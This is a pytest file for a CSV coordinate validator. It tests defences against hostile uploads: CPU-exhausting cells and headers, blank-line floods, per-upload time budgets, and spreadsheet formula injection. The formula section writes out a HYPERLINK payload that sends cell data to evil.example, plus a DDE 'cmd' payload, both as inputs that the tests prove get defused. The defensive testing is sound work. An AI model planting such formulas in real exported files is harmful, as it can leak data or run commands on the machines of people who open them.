"""Hostile CSV uploads (issue #13): cells, headers and blank lines built to cost CPU-hours, a
time budget per web upload, and spreadsheet formulas in the results CSV.

Cost is asserted without a clock: :func:`work` counts the Python and C function calls made
while a parser runs (``sys.setprofile``). A parser whose work grows with a cell's length or with
the number of blank lines makes as many calls more; the fixed parsers make the same few calls
whatever the input's size, on any machine.
"""
from __future__ import annotations

import csv
import io
import subprocess
import sys
from dataclasses import replace

import geopandas as gpd
import pyarrow as pa
import pytest
import shapely
from hypothesis import example, given, settings
from hypothesis import strategies as st

from geo.budget import Deadline, TimeBudgetSpent
from geo.config import Settings
from geo.exports.defuse import defuse_formula, defuse_formulas
from geo.validation.coords import (
    MAX_CELL_CHARS,
    CoordinateError,
    parse_columns,
    parse_pair,
    parse_pair_column,
    parse_value,
)
from geo.validation.pipeline import Validator
from geo.validation.reading import CsvFile
from geo.validation.reading.dates import parse_dates
from geo.validation.reading.reader import MAX_COLUMNS, MAX_HEADER_CHARS, TooWide, unique_column_names
from webmap import create_app
from zonasi.testing.layers import make_layers_dir


def work(fn, *args, name: str | None = None):
    """(result, calls): the function calls ``fn(*args)`` makes in this thread; with ``name``,
    only the calls of Python functions of that name."""
    calls = 0

    def profile(frame, event, arg):
        nonlocal calls
        if event in ("call", "c_call") and (name is None or (event == "call" and frame.f_code.co_name == name)):
            calls += 1

    previous = sys.getprofile()
    sys.setprofile(profile)
    try:
        result = fn(*args)
    finally:
        sys.setprofile(previous)
    return result, calls


def run(engine, data: bytes, **options) -> list[dict]:
    out = io.BytesIO()
    summary = Validator(engine, lang="en", **options).run(data, out)
    return list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8-sig")), delimiter=summary.delimiter))


def upload(app, data: bytes, query: str = ""):
    return app.test_client().post(f"/api/validate{query}", data={"file": (io.BytesIO(data), "laporan.csv")},
                                  content_type="multipart/form-data")


def zonasi(*args, cwd, env=None):
    return subprocess.run([sys.executable, "-c", "from zonasi.cli import main; main()", *args],
                          capture_output=True, text=True, cwd=cwd, timeout=120, env=env)


# -- 1. the coordinate-pair parser: long cells ------------------------------------------------------

def test_a_long_coordinate_cell_is_its_rows_own_problem(engine):
    cell = "6°, " * 7_500  # 30,000 characters: was 8 s of CPU, re-parsed at every separator
    rows = run(engine, f"koordinat\n{cell}\n\"-6.33, 108.32\"\n".encode())
    assert [r["status"] for r in rows][0] == "invalid" and rows[1]["status"] != "invalid"
    assert rows[0]["error"] == ("line 2: the coordinates are 30000 characters long: a \"lat, lon\" pair has at "
                                f"most {MAX_CELL_CHARS}")
    lat = run(engine, f"lat,lon\n{'1' * 5_000},108.32\n".encode())[0]
    assert lat["error"] == f"line 2: latitude is 5000 characters long: a coordinate has at most {MAX_CELL_CHARS}"


def test_pair_parser_work_does_not_grow_with_the_cell():
    calls = []
    for length in (1_000, 10_000, 100_000):
        cell = ("6°, " * length)[:length]
        coords, n = work(parse_pair_column, [cell, "-6.33, 108.32"])
        assert coords.problems[0].code == "pair_too_long" and coords.problems[0].values["length"] == length
        assert coords.problems[1] is None and coords.lat[1] == -6.33
        calls.append(n)
        for parse in (lambda cell=cell: parse_pair(cell), lambda cell=cell: parse_value(cell, "lat")):
            with pytest.raises(CoordinateError) as caught:
                parse()
            assert caught.value.problem.code in ("pair_too_long", "value_too_long")
    assert max(calls) == min(calls), calls  # the same work for 1 KB and 100 KB


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet="1 ,;/°'\"-SE.", min_size=1, max_size=MAX_CELL_CHARS))
@example("1 " * 50)
@example("6°, " * 25)
def test_a_pair_is_looked_for_at_a_bounded_number_of_separators(text):
    """Short cells too: one value holds at most 8 runs of separators, so a pair splits at one
    of a few runs; the parser no longer tries every one (two parse_value calls each)."""
    def attempt():
        try:
            parse_pair(text)
        except CoordinateError:
            pass

    _, calls = work(attempt, name="parse_value")
    assert calls <= 2 * 13  # was up to two per separator run: 98 for "1 1 1 ... 1"


@pytest.mark.parametrize("lat, lon, lettered", [("S. - 6 ° 19 ' 37,2 \"", "E. 108 ° 19 ' 30,5 \"", True),
                                                ("6 ° 19 ' 37,2 '' LS", "108 : 19 : 30,5 SEC BT", True),
                                                ("- 6 DEG 19 MIN 37,2 SEC", "+ 108 DEG 19 MIN 30,5 SEC", False)])
def test_the_most_separated_spellings_still_make_a_pair(lat, lon, lettered):
    """The bound on separators refuses nothing parse_value accepts."""
    for separator in (", ", " ; ", " / ", "  "):
        first, second = parse_pair(lat + separator + lon)
        assert (first.value, second.value) == (parse_value(lat, "lat").value, parse_value(lon, "lon").value)
    if not lettered:
        return
    first, second = parse_pair(lon + ", " + lat)  # letters state the order
    assert first.value == pytest.approx(-6.327) and second.value == pytest.approx(108.325139, abs=1e-6)


# -- 2. absurd headers -----------------------------------------------------------------------------

def test_absurd_headers_are_refused_before_they_are_parsed():
    for header, words in ((b"lat,lon," + b"a," * 1_500_000, "65,536 characters"),       # 3 MB, 1.5M columns
                          (b"lat,lon," + b"x" * (MAX_HEADER_CHARS + 1), "65,536 characters"),
                          (b"lat,lon," + b",".join(b"c%d" % i for i in range(MAX_COLUMNS - 1)), "1,001 columns")):
        with pytest.raises(TooWide) as caught:
            CsvFile(header + b"\n-6.33,108.32\n")
        assert caught.value.status == 413 and words in caught.value.message
    header = b"lat,lon," + b",".join(b"c%d" % i for i in range(MAX_COLUMNS - 2))  # exactly the limit
    with CsvFile(header + b"\n-6.33,108.32\n") as table:
        assert len(table.columns) == MAX_COLUMNS


def test_repeated_column_names_are_numbered_in_linear_work():
    names, calls = work(unique_column_names, ["a"] * MAX_COLUMNS)
    assert names == ["a"] + [f"a_{n}" for n in range(2, MAX_COLUMNS + 1)]
    assert calls < 20 * MAX_COLUMNS  # was half a million .lower() calls (1,000 names), 43 s for 1.5M


def _numbered_as_before(header: list[str]) -> list[str]:
    names = [h.strip().lstrip("\ufeff") for h in header]
    while names and not names[-1]:
        names.pop()
    out, seen = [], set()
    for i, name in enumerate(names, start=1):
        name = name or f"column_{i}"
        unique, n = name, 2
        while unique.lower() in seen:
            unique, n = f"{name}_{n}", n + 1
        seen.add(unique.lower())
        out.append(unique)
    return out


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(["a", "A", "a_2", "A_3", "b", "", " ", "a_2_2", "column_2", "ΑΣ"]), max_size=30))
def test_repeated_names_are_numbered_as_before(header):
    assert unique_column_names(header) == _numbered_as_before(header)


def test_too_many_columns_is_a_413_on_the_web_and_exit_2_on_the_command_line(app, tmp_path):
    data = b"lat,lon," + b",".join(b"c%d" % i for i in range(MAX_COLUMNS)) + b"\n-6.33,108.32\n"
    response = upload(app, data)
    assert response.status_code == 413 and response.mimetype == "application/problem+json"
    body = response.get_json()
    assert body["limit"] == MAX_COLUMNS and "memuat 1,002 kolom" in body["detail"]
    assert upload(app, data, "?lang=en").get_json()["detail"].startswith("The header (line 1) has 1,002 columns")
    path = tmp_path / "wide.csv"
    path.write_bytes(data)
    done = zonasi("validate", str(path), "-o", str(tmp_path / "out.csv"), "--lang", "en", cwd=tmp_path)
    assert done.returncode == 2 and done.stderr.count("\n") == 1 and "1,002 columns" in done.stderr
    assert not (tmp_path / "out.csv").exists()


# -- 3. blank lines --------------------------------------------------------------------------------

@pytest.mark.parametrize("row", [b"-6.33,108.32,A", b"-6.33,108.32,caf\xe9"], ids=["fast", "careful"])
def test_blank_lines_cost_no_work_per_line(row):
    """200,000 blank lines between the header and one row: the row keeps its line number, and
    reading makes no call per blank line (the fast path looked at each in Python, the careful
    path padded each into a record, the delimiter sniffer tested each)."""
    data = b"lat,lon,nama\n" + b"\n" * 200_000 + row + b"\n"

    def read():
        with CsvFile(data) as table:
            return [(int(line), r) for chunk in table.chunks(10_000)
                    for line, r in zip(chunk.lines, chunk.table.to_pylist())], table.codec

    (rows, codec), calls = work(read)
    assert [line for line, _ in rows] == [200_002] and rows[0][1]["lat"] == "-6.33"
    assert codec == ("utf-8" if row.endswith(b"A") else "cp1252")  # pyarrow, or the csv module
    assert calls < 20_000, calls


# -- 4. the time budget of a web upload -------------------------------------------------------------

def test_a_budget_of_zero_stops_before_anything_is_read(engine):
    out = io.BytesIO()
    with pytest.raises(TimeBudgetSpent) as caught:
        Validator(engine, time_budget_s=0).run(b"lat,lon\n-6.33,108.32\n", out)
    assert caught.value.status == 503 and "zonasi validate FILE.csv -o RESULTS.csv" in caught.value.message
    assert out.getvalue() == b""


def test_the_budget_stops_the_run_between_chunks(engine):
    """A clock that moves 10 s per chunk written: a budget of 25 s lets exactly three through."""
    now = [0.0]
    written = []

    def progress(position, rows):
        written.append(position)
        now[0] += 10.0

    data = b"lat,lon\n" + b"-6.33,108.32\n" * 5_000
    with pytest.raises(TimeBudgetSpent):
        Validator(engine, chunk_rows=1_000, time_budget_s=25, clock=lambda: now[0]).run(
            data, io.BytesIO(), progress=progress)
    assert len(written) == 3
    now[0], written[:] = 0.0, []
    Validator(engine, chunk_rows=1_000, clock=lambda: now[0]).run(data, io.BytesIO(), progress=progress)
    assert len(written) == 5  # no budget: the same clock runs to the end


def test_the_budget_is_checked_while_blank_lines_are_read():
    """Blocks that hold no row still tick: the reader raises from there."""
    ticks = Deadline(2, clock=iter(range(1_000)).__next__)  # one second per look at the clock
    data = b"lat,lon\n" + b"\n" * 3_000_000 + b"-6.33,108.32\n"  # 3 MB: blocks of 1 MB, then 2 MB
    with CsvFile(data) as table, pytest.raises(TimeBudgetSpent):
        list(table.chunks(10_000, ticks.check))


def test_web_uploads_get_the_budget_of_the_settings(settings, engine):
    app = create_app(replace(settings, validate_time_budget_s=0.0), engine=engine)
    response = upload(app, b"lat,lon\n-6.33,108.32\n")
    assert response.status_code == 503 and response.mimetype == "application/problem+json"
    assert response.headers["Retry-After"]
    body = response.get_json()
    assert body["type"].endswith("time-budget-spent") and body["budget_s"] == 0
    assert "zonasi validate BERKAS.csv -o HASIL.csv" in body["detail"]  # Indonesian by default
    assert "no time limit" in upload(app, b"lat,lon\n-6.33,108.32\n", "?lang=en").get_json()["detail"]
    assert upload(create_app(settings, engine=engine), b"lat,lon\n-6.33,108.32\n").status_code == 200


def test_the_budget_setting_comes_from_the_environment():
    assert Settings().validate_time_budget_s == 60.0
    assert Settings.from_env({"ZONASI_VALIDATE_TIME_BUDGET_S": "2.5"}).validate_time_budget_s == 2.5
    for bad in ("soon", "-1", "nan", "inf"):
        with pytest.raises(ValueError, match="ZONASI_VALIDATE_TIME_BUDGET_S"):
            Settings.from_env({"ZONASI_VALIDATE_TIME_BUDGET_S": bad})


def test_the_command_line_has_no_budget(tmp_path):
    import os

    path = tmp_path / "r.csv"
    path.write_text("lat,lon\n-6.33,108.32\n", encoding="utf-8")
    env = {**os.environ, "ZONASI_VALIDATE_TIME_BUDGET_S": "0"}
    done = zonasi("validate", str(path), "-o", str(tmp_path / "out.csv"), cwd=tmp_path, env=env)
    assert done.returncode == 0, done.stderr


# -- 5. formulas in the results CSV ----------------------------------------------------------------

FORMULA_SITE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def test_results_csv_defuses_site_names_input_cells_and_header(tmp_path):
    """A site named like a formula (anyone can write one into OpenStreetMap), formula cells and
    a formula column name in the upload: all come out as text; numbers stay as they are."""
    layers = make_layers_dir(tmp_path)
    gpd.GeoDataFrame({"name": [FORMULA_SITE], "category": ["school"], "site_id": ["evil"]},
                     geometry=[shapely.Point(108.32, -6.33)], crs=4326).to_parquet(layers / "sites" / "evil.parquet")
    source = tmp_path / "laporan.csv"
    source.write_text("No;Lintang;Bujur;Catatan;=cmd|' /C calc'!A0\n"
                      "1;-6,33001;108,32;=1+1;@SUM(1)\n"
                      "2;-6.33;108.32;-2+3;+x\n"
                      "3;-6,4;108,4;biasa;-6,5\n", encoding="utf-8")
    out = tmp_path / "hasil.csv"
    done = zonasi("validate", str(source), "-o", str(out), "--layers", str(layers), "--lang", "en", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    text = out.read_text("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][4] == "'=cmd|' /C calc'!A0"
    assert [r[3] for r in rows[1:]] == ["'=1+1", "'-2+3", "biasa"]
    assert [r[4] for r in rows[1:]] == ["'@SUM(1)", "'+x", "-6,5"]
    assert [r[1] for r in rows[1:]] == ["-6,33001", "-6.33", "-6,4"]  # numbers are no formulas
    site = rows[0].index("nearest_site")
    assert rows[1][site] == rows[2][site] == "'" + FORMULA_SITE
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or defuse_formula(cell) == cell, cell


def test_clean_results_are_unchanged_byte_for_byte(engine):
    data = b"Nama;Lintang;Bujur;Catatan\nA;-6,327;108,325;dekat pasar\nB;-6.4;108.4;\"koma, titik\"\n"
    out = io.BytesIO()
    Validator(engine, lang="en").run(data, out)
    lines = out.getvalue().decode().splitlines()
    assert lines[0].startswith('"Nama";"Lintang";"Bujur";"Catatan";"line";"status"')
    assert lines[1].startswith('"A";"-6,327";"108,325";"dekat pasar";2;') and "'" not in out.getvalue().decode()
    assert lines[2].startswith('"B";"-6.4";"108.4";"koma, titik";3;')


FORMULA_TEXT = st.text(alphabet="=+-@\t\r0123456789.,eE xé'\n", max_size=12)


@settings(max_examples=500, deadline=None)
@given(st.lists(st.one_of(st.none(), FORMULA_TEXT), max_size=20), st.booleans(), st.integers(0, 3))
def test_vectorised_defusing_is_the_one_cell_rule(values, large, offset):
    array = pa.array(values, type=pa.large_string() if large else pa.string()).slice(min(offset, len(values)))
    defused = defuse_formulas(array)
    assert defused.to_pylist() == [defuse_formula(v) for v in array.to_pylist()]
    if defused.to_pylist() == array.to_pylist():
        assert defused is array  # nothing to do: the very same array, written as before


# -- 6. long inputs to the parsers -----------------------------------------------------------------

UNITS = st.text(alphabet="0123456789 ,;/.-°'\"NSEWLUTB\t:", min_size=1, max_size=12)


@settings(max_examples=60, deadline=None)
@given(UNITS, st.integers(10_000, 100_000))
def test_long_coordinate_cells_get_a_clear_problem_in_constant_work(unit, length):
    cell = (unit * (length // len(unit) + 1))[:length]
    pair, calls = work(parse_pair_column, [cell, "-6.33, 108.32"])
    assert pair.problems[0].code == "pair_too_long" and pair.problems[0].values["length"] == length
    assert pair.problems[1] is None
    columns, more = work(parse_columns, [cell, "-6.33"], ["108.32", cell])
    assert columns.problems[0].code == "value_too_long" and columns.problems[0].values["axis"] == "lat"
    assert columns.problems[1].code == "value_too_long" and columns.problems[1].values["axis"] == "lon"
    assert calls + more < 2_000  # no call per character or per separator


@settings(max_examples=40, deadline=None)
@given(st.text(alphabet="0123456789 /.-janmeiJANMEI", min_size=1, max_size=12), st.integers(10_000, 100_000))
def test_long_date_cells_are_a_problem_quoted_short(unit, length):
    cell = (unit * (length // len(unit) + 1))[:length]
    (days, problems), calls = work(parse_dates, [cell, "2024-01-05"])
    assert str(days[1]) == "2024-01-05"
    if problems[0] is not None:
        assert len(problems[0].values["value"]) <= 103
    assert calls < 3 * length  # at most linear (a month name is one substitution each)


@settings(max_examples=30, deadline=None)
@given(UNITS, st.integers(10_000, 100_000), st.sampled_from([",", ";", "\t"]))
def test_long_cells_and_rows_in_the_reader(unit, length, delimiter):
    """A long quoted coordinate cell, then a row with thousands of values more than the header:
    every row comes back with its line, the long one is a coordinate problem, the wide one names
    only its first extra values."""
    cell = (unit * (length // len(unit) + 1))[:length].replace('"', "'")
    d = delimiter
    data = (f"koordinat{d}nama\n\"{cell}\"{d}A\n\"-6.33, 108.32\"{d}B\n" + f"x{d}" * 5_000 + "y\n").encode()

    def read():
        with CsvFile(data) as table:
            chunks = list(table.chunks(1_000))
        return chunks

    chunks, calls = work(read)
    lines = [int(line) for chunk in chunks for line in chunk.lines]
    assert lines == [2 + cell.count("\n"), 3 + cell.count("\n"), 4 + cell.count("\n")]
    values = [v for chunk in chunks for v in chunk.column("koordinat").to_pylist()]
    coords = parse_pair_column(values)
    assert coords.problems[0].code == "pair_too_long" and coords.problems[1] is None
    wide = [p for chunk in chunks for p in chunk.problems.values()]
    assert [p.code for p in wide] == ["extra_values"] and wide[0].values["values"].count('"') == 10
    assert calls < 50_000
